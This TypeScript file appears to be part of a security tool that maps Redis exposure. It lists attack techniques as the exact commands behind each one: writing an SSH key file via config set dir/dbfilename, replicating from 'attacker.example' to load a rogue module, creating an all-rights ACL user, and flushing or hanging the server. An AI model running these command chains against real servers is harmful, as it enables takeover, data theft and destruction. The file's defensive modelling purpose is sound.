import type { Argv } from '../exposure/permission.ts'
import type { Harm, TechniqueId } from './attack-path.ts'

/** Something an attacker needs done, and the command lines any of which does it. */
export interface Need {
  /** A clause: "makes the server write the file". */
  readonly does: string
  readonly any: readonly [Argv, ...Argv[]]
}

/** A technique that is nothing but commands. The order of needs is the order they are run in. */
export interface CommandTechnique {
  readonly id: TechniqueId
  readonly harm: Harm
  /** What comes of it, a clause: "writes a file of his choice". */
  readonly title: string
  readonly needs: readonly [Need, ...Need[]]
}

const enumerate: Need = { does: 'lists the keys', any: [['scan', '0'], ['keys', '*'], ['randomkey']] }
const writes: Need = {
  does: 'stores what is to be written',
  any: [['set', 'x', 'x'], ['append', 'x', 'x'], ['setrange', 'x', '0', 'x'], ['mset', 'x', 'x'], ['lpush', 'x', 'x'], ['sadd', 'x', 'x'], ['hset', 'x', 'x', 'x'], ['xadd', 'x', '*', 'x', 'x']],
}
const followsHisServer: Need = {
  does: 'makes the server a replica of his own',
  any: [['replicaof', 'attacker.example', '6379'], ['slaveof', 'attacker.example', '6379']],
}

/** On a replica, what writes needs this first. */
export const LEAVE_PRIMARY: Need = {
  does: 'makes the replica writable',
  any: [['replicaof', 'no', 'one'], ['slaveof', 'no', 'one'], ['config', 'set', 'replica-read-only', 'no'], ['config', 'set', 'slave-read-only', 'no']],
}

/** Worst first within a harm. */
export const COMMAND_TECHNIQUES: readonly CommandTechnique[] = [
  {
    id: 'write-file', harm: 'take-over', title: 'writes a file of his choice: an SSH key, a cron job, a web shell',
    needs: [
      { does: 'chooses the folder', any: [['config', 'set', 'dir', '/root/.ssh']] },
      { does: 'chooses the file name', any: [['config', 'set', 'dbfilename', 'authorized_keys']] },
      writes,
      { does: 'makes the server write it', any: [['save'], ['bgsave'], ['config', 'set', 'save', '1 1'], ['shutdown', 'save']] },
    ],
  },
  {
    id: 'load-module', harm: 'take-over', title: 'runs code from any executable library on the machine',
    needs: [{ does: 'loads a module', any: [['module', 'load', '/tmp/x.so'], ['module', 'loadex', '/tmp/x.so']] }],
  },
  {
    id: 'make-user', harm: 'take-over', title: 'makes himself a user with every right',
    needs: [{ does: 'makes a user', any: [['acl', 'setuser', 'x', 'on', 'nopass', '~*', '+@all']] }],
  },
  {
    id: 'debug', harm: 'take-over', title: 'works the inside of the process: crashes it, reads its addresses, reloads data',
    needs: [{ does: 'runs DEBUG', any: [['debug', 'segfault']] }],
  },
  {
    id: 'read-keys', harm: 'read', title: 'reads the data, key after key',
    needs: [
      enumerate,
      { does: 'reads their values', any: [['dump', 'x'], ['get', 'x'], ['hgetall', 'x'], ['lrange', 'x', '0', '-1'], ['smembers', 'x'], ['zrange', 'x', '0', '-1'], ['xrange', 'x', '-', '+']] },
    ],
  },
  {
    id: 'monitor', harm: 'read', title: 'watches every command of every client, passwords in arguments included',
    needs: [{ does: 'runs MONITOR', any: [['monitor']] }],
  },
  {
    id: 'replicate', harm: 'read', title: 'takes a copy of the whole dataset, as a replica would',
    needs: [{ does: 'asks for a full copy', any: [['psync', '?', '-1'], ['sync']] }],
  },
  { id: 'flush', harm: 'wipe', title: 'deletes all data', needs: [{ does: 'empties the server', any: [['flushall'], ['flushdb']] }] },
  {
    id: 'delete-keys', harm: 'wipe', title: 'deletes the data, key after key',
    needs: [enumerate, { does: 'deletes them', any: [['del', 'x'], ['unlink', 'x']] }],
  },
  { id: 'replace-data', harm: 'wipe', title: 'replaces all data by his own', needs: [followsHisServer] },
  {
    id: 'shutdown', harm: 'stop', title: 'switches the server off',
    needs: [{ does: 'runs SHUTDOWN', any: [['shutdown', 'nosave']] }],
  },
  {
    id: 'hang', harm: 'stop', title: 'keeps the server from answering anybody',
    needs: [{
      does: 'keeps it busy',
      any: [['debug', 'sleep', '3600'], ['eval', 'while true do end', '0'], ['client', 'pause', '4000000000']],
    }],
  },
  {
    id: 'slow-keys', harm: 'stop', title: 'blocks the server while it walks all keys, again and again',
    needs: [{ does: 'runs KEYS', any: [['keys', '*']] }],
  },
  {
    id: 'migrate', harm: 'reach-onward', title: 'makes the server connect to other machines and send them keys',
    needs: [{ does: 'runs MIGRATE', any: [['migrate', '10.0.0.1', '6379', 'x', '0', '1000']] }],
  },
  {
    id: 'follow-any-primary', harm: 'reach-onward', title: 'makes the server connect to any machine it can reach',
    needs: [followsHisServer],
  },
]

/** Brings the library over the replication stream, where files need not be executable to be loaded. */
export const ROGUE_MODULE: CommandTechnique = {
  id: 'rogue-module', harm: 'take-over', title: 'runs his own code: the library arrives over replication and is loaded as a module',
  needs: [followsHisServer, { does: 'loads the file as a module', any: [['module', 'load', './dump.rdb']] }],
}

export const FILL_MEMORY: CommandTechnique = {
  id: 'fill-memory', harm: 'stop', title: 'fills the memory of the machine until something is killed', needs: [{ ...writes, does: 'stores without end' }],
}
export const LIFT_MEMORY_LIMIT: Need = { does: 'lifts the memory limit', any: [['config', 'set', 'maxmemory', '0']] }

export const SENTINEL_SCRIPT: CommandTechnique = {
  id: 'sentinel-script', harm: 'take-over', title: 'makes the sentinel run a script of his choice',
  needs: [{ does: 'sets a notification script', any: [['sentinel', 'set', 'x', 'notification-script', '/tmp/x']] }],
}

/** Run Lua: any of these is enough to reach the flaws of its interpreter. */
export const RUN_LUA: Need = {
  does: 'runs a Lua script',
  any: [['eval', 'return 1', '0'], ['script', 'load', 'return 1'], ['evalsha', 'x', '0'], ['function', 'load', 'x'], ['fcall', 'x', '0'], ['eval_ro', 'return 1', '0']],
}
export const MAKE_ALL_POWERFUL: Need = {
  does: 'gives himself every right',
  any: [['acl', 'setuser', 'x', 'on', 'nopass', '~*', '+@all']],
}
